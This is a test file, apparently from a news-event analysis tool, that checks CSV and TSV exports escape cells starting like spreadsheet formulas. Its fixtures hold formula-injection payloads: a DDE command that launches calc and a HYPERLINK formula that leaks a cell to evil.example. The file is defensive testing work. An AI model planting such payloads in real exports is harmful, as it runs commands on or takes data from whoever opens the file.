"""Article text cannot become a spreadsheet formula in any CSV/TSV export, and numbers stay numbers."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from click.testing import CliRunner

from analysis_corpus import DocBuilder, build_store
from dyadlens.analysis.common import AnalysisContext
from dyadlens.cli import main
from dyadlens.exports.csv_safety import csv_cell, csv_line, neutralise
from dyadlens.exports.gdelt import write_gdelt
from dyadlens.model import ActorRef, Mention, stable_id
from dyadlens.resources import Resources
from dyadlens.store import open_store
from dyadlens.store.export import EVENT_CONTEXT_COLUMNS
from dyadlens.store.schema import EXPORTABLE

SENTENCE = "=cmd|' /C calc'!A0 Mallory attacked the Taliban in 2024."
EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def _hostile_records() -> DocBuilder:
    """A document whose sentence, actor name, outlet, title and quote speaker all start like formulas."""
    doc = DocBuilder("csv-hostile", [SENTENCE], "2024-07-01", "@SUM(1+1)", "+title")
    start, end = doc.span(0, "Mallory")
    mention_id = stable_id(doc.doc_id, start, end, "m")
    doc.records.mentions.append(Mention(mention_id, doc.doc_id, start, end, 0, "mallory", "PERSON", "alias"))
    doc.records.actors.append(ActorRef("mallory", EVIL_NAME, "person"))
    doc.mention(0, "Taliban", "taliban")
    doc.event(0, "attacked", "mallory", "taliban", "190", "asserted", "2024")
    doc.quote(0, "Mallory attacked the Taliban", "-Mallory's spokesman", "mallory")
    return doc


@pytest.fixture(scope="module")
def store_path(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = build_store(tmp_path_factory.mktemp("csvsafety") / "corpus.db")
    store = open_store(path)
    try:
        store.write(_hostile_records().records)
    finally:
        store.close()
    return path


@pytest.fixture()
def ctx(store_path: Path, resources: Resources) -> Iterator[AnalysisContext]:
    store = open_store(store_path)
    yield AnalysisContext(store, resources.ontology, resources.kb)
    store.close()


@pytest.mark.parametrize(
    ("value", "expected"),
    [("=cmd", "'=cmd"), ("+1+1", "'+1+1"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"),
     ("\rx", "'\rx"), ("-", "'-"), ("plain", "plain"), ("", ""), ("a=b", "a=b"),
     ("-10.0", "-10.0"), ("+2.5e3", "+2.5e3"), (-10.0, -10.0), (-3, -3), (None, None)],
)
def test_only_formula_like_text_is_neutralised(value: object, expected: object) -> None:
    assert neutralise(value) == expected


def test_a_neutralised_cell_is_always_quoted_and_numbers_never_are() -> None:
    assert csv_cell("=1+1") == "\"'=1+1\""
    assert csv_cell('=A1&"x"') == "\"'=A1&\"\"x\"\"\""
    assert csv_line(["-10.0", -10.0, 3, None, "a,b", "ok"]) == '-10.0,-10.0,3,,"a,b",ok\r\n'
    assert csv_line(["x\ty", "@a"], "\t", "\n") == "\"x\ty\"\t\"'@a\"\n"


def test_gdelt_table_neutralises_article_text_and_keeps_goldstein_a_number(ctx: AnalysisContext) -> None:
    out = io.StringIO()
    write_gdelt(ctx, out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue()), delimiter="\t"))
    row = next(r for r in rows if r["doc_id"] == "csv-hostile")
    assert row["Actor1Name"] == "'" + EVIL_NAME
    assert row["evidence_text"] == "'" + SENTENCE
    assert row["outlet"] == "'@SUM(1+1)"
    assert row["GoldsteinScale"] == "-10.0"
    assert "\t-10.0\t" in out.getvalue() and "\t\"'@SUM(1+1)\"" in out.getvalue()
    risky = {cell for r in rows for cell in r.values() if cell.startswith(("=", "+", "-", "@", "\t", "\r"))}
    assert risky and all(float(cell) < 0 for cell in risky)


def _export_csv(store_path: Path, tmp_path: Path, table: str) -> str:
    """``dyadlens export --table TABLE --format csv`` to a file; its text."""
    target = tmp_path / f"{table}.csv"
    args = ["--db", str(store_path), "export", "--table", table, "--format", "csv", str(target)]
    result = CliRunner().invoke(main, args)
    assert result.exit_code == 0, result.output
    return target.read_text(encoding="utf-8")


@pytest.mark.parametrize(
    ("table", "column", "expected"),
    [("quotes", "speaker", "'-Mallory's spokesman"), ("actors", "name", "'" + EVIL_NAME),
     ("documents", "outlet", "'@SUM(1+1)"), ("documents", "title", "'+title"), ("documents", "text", "'" + SENTENCE)],
)
def test_export_csv_neutralises_formula_cells(
    store_path: Path, tmp_path: Path, table: str, column: str, expected: str
) -> None:
    text = _export_csv(store_path, tmp_path, table)
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert expected in [row[column] for row in rows]
    assert f'"{expected.replace(chr(34), chr(34) * 2)}"' in text


def test_export_csv_leaves_ordinary_cells_and_numbers_bare(store_path: Path, tmp_path: Path) -> None:
    header, *lines = _export_csv(store_path, tmp_path, "events").splitlines()
    assert header.startswith("id,doc_id,seq,start,end,sentence_index,trigger_start,trigger_end,")
    assert ",entry,route,source_route,target_route,cue,confidence,source_sectors," in header
    assert header.endswith(",place_start,place_end,place_rule,coder,correction,standing,cluster,"
                           + ",".join(EVENT_CONTEXT_COLUMNS))
    # the stored columns (the context after them quotes the hostile evidence sentence, as it must):
    # entry test, no routes, no cue, confidence 0.9; no sectors and no place (11 empty cells); the rules
    # coded it, no correction touched it, it is an act and the store gave it its event (a hex id)
    stored = [",".join(cells[:len(EXPORTABLE["events"].c)]) for cells in csv.reader(lines)]
    act = re.compile(",test,,,,,0\\.9" + "," * 11 + ",rules,,False,[0-9a-f]{20}$")
    assert len(lines) == 9 and all(act.search(cells) for cells in stored)
    assert all(line.startswith(cells + ",") and "'" not in cells for line, cells in zip(lines, stored, strict=True))
